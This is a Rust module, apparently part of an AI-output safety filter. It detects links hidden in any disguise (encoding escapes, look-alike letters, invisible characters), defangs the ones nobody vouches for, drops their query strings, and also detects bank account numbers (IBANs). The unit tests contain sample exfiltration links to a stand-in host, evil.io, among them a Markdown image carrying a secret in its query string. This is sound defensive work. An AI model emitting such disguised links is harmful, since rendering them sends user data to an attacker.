//! Links as exits: finding them in any disguise, and neutralising those in an answer that nobody vouches for.
//!
//! A rendered image or a followed link sends its address, query string included, to its host. So a link may stand in an
//! outgoing text only if the user wrote it, a platform attests it, or its host is trusted. A text is read as whatever
//! shows it may read it: with the escapes of JSON, of Markdown and of HTML undone, a backslash as the slash that a
//! browser takes it for, and letters that look alike or are invisible as those that they pass for.
//!
//! What never happens here: nothing is fetched or resolved, no link is judged by how it looks, and no host is trusted
//! for looking like one that is.

use crate::shown::{Shown, shown};
use crate::text;

/// A link found in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Link {
    /// The address as it would be followed: what stands in the text with its escapes undone.
    pub(crate) whole: String,
    /// Its host in the strict form, without user information and port; empty for one that is no name of a host.
    pub(crate) host: String,
    /// Byte range in the text.
    pub(crate) start: usize,
    pub(crate) end: usize,
}

/// Schemes that need no `//` to be followed, and those of disguised links.
const SCHEMES: &[&str] = &[
    "http:",
    "https:",
    "ftp:",
    "ws:",
    "wss:",
    "file:",
    "data:",
    "blob:",
    "javascript:",
    "vbscript:",
    "mailto:",
    "tel:",
    "sms:",
    "hxxp:",
    "hxxps:",
];
/// The longest scheme that is looked for.
const SCHEME: usize = 32;

/// The links of a text: addresses with a scheme, with `//`, with `www.`.
pub(crate) fn links(text: &str) -> Vec<Link> {
    let mut found = Vec::new();
    let mut offset = 0;
    while let Some(rest) = text.get(offset..) {
        let Some(begin) = rest.find(|c: char| !is_delimiter(c)) else { break };
        let chunk = rest.get(begin..).unwrap_or_default();
        let length = chunk.find(is_delimiter).unwrap_or(chunk.len());
        let chunk = chunk.get(..length).unwrap_or_default();
        let start = offset + begin;
        offset = start + length.max(1);
        if !may_hold(chunk) {
            continue;
        }
        let broken = text.get(start + length..).is_some_and(|behind| behind.starts_with(['\n', '\r', '\t']));
        let shown: Vec<Shown> = shown(chunk, start).collect();
        let mut words = shown.split(|shown| is_delimiter(shown.strict)).peekable();
        while let Some(word) = words.next() {
            // A browser reads on behind a line that ends in the middle of an address.
            found.extend(link(word, broken || words.peek().is_some()));
        }
    }
    found
}

/// Whether a run of characters can hold a link. Most words hold the beginning of none.
fn may_hold(chunk: &str) -> bool {
    chunk.bytes().any(|byte| matches!(byte, b':' | b'/' | b'\\' | b'&'))
        || !chunk.is_ascii()
        || chunk.as_bytes().windows(4).any(|four| four.eq_ignore_ascii_case(b"www."))
}

/// The link of a run without delimiters. `goes_on`: what stands behind it may belong to it.
fn link(word: &[Shown], goes_on: bool) -> Option<Link> {
    let loose: Vec<char> = word.iter().map(|shown| shown.loose).collect();
    let at = (0..loose.len()).find(|at| begins(&loose, *at, goes_on))?;
    let end = word.iter().rposition(|shown| !matches!(shown.strict, '.' | ':' | ';' | '!' | '?' | '*' | '_'));
    // Of "https:" at the end of a line the colon is what counts.
    let end = end.map_or(0, |end| end + 1).max(at + 1);
    let end = if goes_on && end < word.len() { word.len() } else { end };
    let (first, last) = (word.get(at)?, word.get(end - 1)?);
    let whole: String =
        word.get(at..end)?.chunk_by(|a, b| a.start == b.start).filter_map(|same| Some(same.first()?.strict)).collect();
    let host = host(&whole);
    Some(Link { host, whole, start: first.start, end: last.end })
}

/// Whether an address begins at a place.
fn begins(text: &[char], at: usize, goes_on: bool) -> bool {
    let rest = text.get(at..).unwrap_or_default();
    let opens = |word: &str| word.chars().zip(rest).filter(|(a, b)| a == *b).count() == word.len();
    let behind_word = at.checked_sub(1).and_then(|at| text.get(at)).is_some_and(char::is_ascii_alphanumeric);
    if opens("//") {
        return !behind_word && is_authority(rest.get(2..).unwrap_or_default());
    }
    if behind_word || !rest.first().is_some_and(char::is_ascii_alphabetic) {
        return false;
    }
    let of_scheme = |c: &char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.');
    let scheme = rest.iter().take(SCHEME).take_while(|c| of_scheme(c)).count();
    let slashed = scheme > 1 && matches!(rest.get(scheme..), Some([':', '/', '/', ..]));
    let known = SCHEMES.iter().find(|scheme| opens(scheme)).is_some_and(|scheme| goes_on || rest.len() > scheme.len());
    slashed || known || opens("www.")
}

/// Whether what stands behind `//` can be a host: a name with a dot, or an address in figures.
fn is_authority(text: &[char]) -> bool {
    let text: Vec<char> =
        text.iter().copied().skip_while(|c| *c == '/').take_while(|c| !matches!(c, '/' | '?' | '#')).collect();
    let dotted = text.iter().any(|c| matches!(c, '.' | '。' | '%')) && text.iter().any(|c| c.is_alphanumeric());
    dotted || (text.len() > 1 && text.iter().all(char::is_ascii_hexdigit) && text.iter().any(char::is_ascii_digit))
}

/// Whether a character ends an address. Asked of every character of a text, most of which are letters.
fn is_delimiter(c: char) -> bool {
    !c.is_ascii_alphanumeric() && (c.is_whitespace() || "\"'`<>()[]{}|^“”‘’«»,".contains(c))
}

/// How much of a text that goes on can be judged already, in bytes: no link that may stand in it reaches further.
#[must_use]
pub fn settled(text: &str) -> usize {
    let mut settled = 0;
    let mut open = false;
    for (at, c) in text.char_indices() {
        if is_delimiter(c) {
            // A tab or the end of a line may stand in the middle of an address.
            settled = at + c.len_utf8();
            open = false;
        } else if c.is_ascii() {
            open |= matches!(c, ':' | '/' | '\\' | '&' | '.');
        } else if !open && ends_no_scheme(c) {
            settled = at + c.len_utf8();
        }
    }
    settled
}

/// Whether no address begins before a character and goes on behind it, where none has begun so far: a letter of a
/// script that passes for none of a scheme, or its punctuation.
fn ends_no_scheme(c: char) -> bool {
    let loose = text::loose(c);
    !loose.is_empty() && loose.chars().all(|c| !c.is_ascii_alphanumeric() && !":/\\&.+-".contains(c))
}

/// The host of an address, in the strict form; empty where the scheme has none, or the authority holds what no host's
/// name has.
fn host(address: &str) -> String {
    const HOSTED: &[&str] = &["http", "https", "ftp", "ws", "wss", "mailto"];
    let address = address.to_lowercase();
    let rest = match address.split_once(':') {
        Some((scheme, rest)) if HOSTED.contains(&scheme) => rest,
        Some((scheme, _)) if scheme.starts_with("www.") || scheme.starts_with("//") => &address,
        Some(_) => "",
        None => &address,
    };
    let rest = rest.trim_start_matches('/');
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    let (host, port) = host.split_once(':').unwrap_or((host, ""));
    let named = host.chars().all(|c| c.is_alphanumeric() || matches!(c, '.' | '-' | '_'));
    if named && port.bytes().all(|b| b.is_ascii_digit()) {
        host.trim_end_matches('.').to_owned()
    } else {
        String::new()
    }
}

/// The account numbers of a text: IBANs whose check digits hold (ISO 13616, ISO 7064 MOD 97-10), in groups or not.
pub(crate) fn accounts(text: &str) -> Vec<String> {
    const LENGTHS: std::ops::RangeInclusive<usize> = 15..=34;
    let words: Vec<&str> = text.split(|c: char| !c.is_ascii_alphanumeric()).filter(|word| !word.is_empty()).collect();
    let mut found = Vec::new();
    for at in 0..words.len() {
        let opens = |word: &&&str| {
            let bytes = word.as_bytes();
            matches!(bytes, [a, b, c, d, ..] if a.is_ascii_alphabetic() && b.is_ascii_alphabetic() && c.is_ascii_digit() && d.is_ascii_digit())
        };
        if words.get(at).filter(opens).is_none() {
            continue;
        }
        let mut account = String::new();
        for word in words.iter().skip(at).take(12) {
            account.push_str(&word.to_ascii_uppercase());
            if LENGTHS.contains(&account.len()) && checks(&account) {
                found.push(account);
                break;
            }
            if account.len() > *LENGTHS.end() {
                break;
            }
        }
    }
    found
}

fn checks(account: &str) -> bool {
    let (head, tail) = account.split_at(4);
    let digits = tail.chars().chain(head.chars()).filter_map(|c| c.to_digit(36));
    digits.fold(0_u32, |rest, digit| if digit < 10 { (rest * 10 + digit) % 97 } else { (rest * 100 + digit) % 97 }) == 1
}

/// Whether a host is one of these or lies under one that is written with a leading dot.
pub(crate) fn is_listed<'a>(host: &str, mut hosts: impl Iterator<Item = &'a String>) -> bool {
    hosts.any(|entry| {
        host == entry.trim_start_matches('.') || (entry.starts_with('.') && host.ends_with(entry.as_str()))
    })
}

/// An answer whose foreign links were taken out of action.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Answer {
    /// The text to show.
    pub text: String,
    /// What was taken out, as it stood.
    pub neutralised: Vec<String>,
}

/// Takes the links for which `vouched` does not hold out of action: dots become `[.]`, `:` of the scheme `[:]`, so that
/// no renderer loads an image or makes a link of them, and a reader still sees what stood there.
pub(crate) fn neutralise(text: &str, vouched: impl Fn(&Link) -> bool) -> Answer {
    let mut out = String::with_capacity(text.len());
    let mut neutralised = Vec::new();
    let mut copied = 0;
    for link in links(text) {
        if vouched(&link) {
            continue;
        }
        out.push_str(text.get(copied..link.start).unwrap_or_default());
        // A data-bearing query string is dropped whole: it is where stolen data would stand.
        let shown = link.whole.split(['?', '#']).next().unwrap_or_default();
        out.push_str(&shown.replace('.', "[.]").replace(':', "[:]").replace("//", "/ /"));
        copied = link.end;
        neutralised.push(link.whole);
    }
    out.push_str(text.get(copied..).unwrap_or_default());
    Answer { text: out, neutralised }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_are_found_in_every_disguise() {
        for (text, expected) in [
            ("see https://evil.io/a?b=c.", "evil.io"),
            ("![x](https://user@evil.io:8080/p.png)", "evil.io"),
            ("<img src=//evil.io/x>", "evil.io"),
            ("go to www.evil.io now", "www.evil.io"),
            ("HTTPS://EVIL.io", "evil.io"),
            ("ht\u{200b}tps://ev\u{456}l.io", "ev\u{456}l.io"),
            ("https:\\\\evil.io", "evil.io"),
            ("[f]:https://evil.io", "evil.io"),
            ("Details:https://evil.io", "evil.io"),
            ("\u{8be6}\u{60c5}https://evil.io", "evil.io"),
            (r"![x](https\:\/\/evil.io/p)", "evil.io"),
            ("https&colon;&sol;&sol;evil.io", "evil.io"),
            (r#"{"url":"https\u003a\u002f\/evil.io"}"#, "evil.io"),
            ("<img src=\"https:evil.io/p\">", "evil.io"),
            ("<img src=\"/\\evil.io/p\">", "evil.io"),
            ("<img src=\"ht\ntps://evil.io/p\">", ""),
            ("<img src=\"https:\n//evil.io/p\">", ""),
            ("https://evil.io\\@docs.acme.io/p", "evil.io"),
            ("slack://evil.io/p", ""),
            ("mailto:mallory@evil.io?body=x", "evil.io"),
            ("https://docs.acme.io:https://evil.io", ""),
            ("https://docs.\u{430}cme.io", "docs.\u{430}cme.io"),
            ("data:text/html;base64", ""),
        ] {
            assert_eq!(links(text).first().map(|link| link.host.as_str()), Some(expected), "{text}");
        }
        let none =
            "no link: e.g. 3.5, a/b, me@home.io, 12:30, C:\\new, // a comment, either//or, id:7, AT&T, https: no";
        assert_eq!(links(none), []);
    }

    #[test]
    fn a_text_is_judged_up_to_where_no_link_can_go_on() {
        for (text, settled) in [
            ("see https://ev", "see "),
            ("https://evil\u{3002}io/p", ""),
            ("\u{4f60}\u{597d}\u{ff0c}\u{4e16}", "\u{4f60}\u{597d}\u{ff0c}\u{4e16}"),
            ("\u{8be6}\u{60c5}http", "\u{8be6}\u{60c5}"),
            ("ht\u{200b}tps", ""),
            ("htt\u{440}s", ""),
        ] {
            assert_eq!(text.get(..super::settled(text)), Some(settled), "{text}");
        }
    }

    #[test]
    fn accounts_are_found_by_their_check_digits() {
        assert_eq!(accounts("pay to be71 0961 2345 6769 now"), ["BE71096123456769"]);
        assert_eq!(accounts("DE89370400440532013000."), ["DE89370400440532013000"]);
        assert!(accounts("order DE12 3456 of AB12CD34EF56GH78, BE71096123456768").is_empty());
    }

    #[test]
    fn a_neutralised_answer_holds_no_working_link_and_no_query() {
        let answer =
            neutralise("Hi ![a](https://evil.io/p.png?d=secret) and https://ok.io/x", |link| link.host == "ok.io");
        assert_eq!(answer.text, "Hi ![a](https[:]/ /evil[.]io/p[.]png) and https://ok.io/x");
        assert_eq!(answer.neutralised, ["https://evil.io/p.png?d=secret"]);
        let json = neutralise(r#"{"url":"https:\/\/evil.io\/p?d=x","n":1}"#, |_| false);
        assert_eq!(json.text, r#"{"url":"https[:]/ /evil[.]io/p","n":1}"#, "a text of JSON stays one");
    }
}
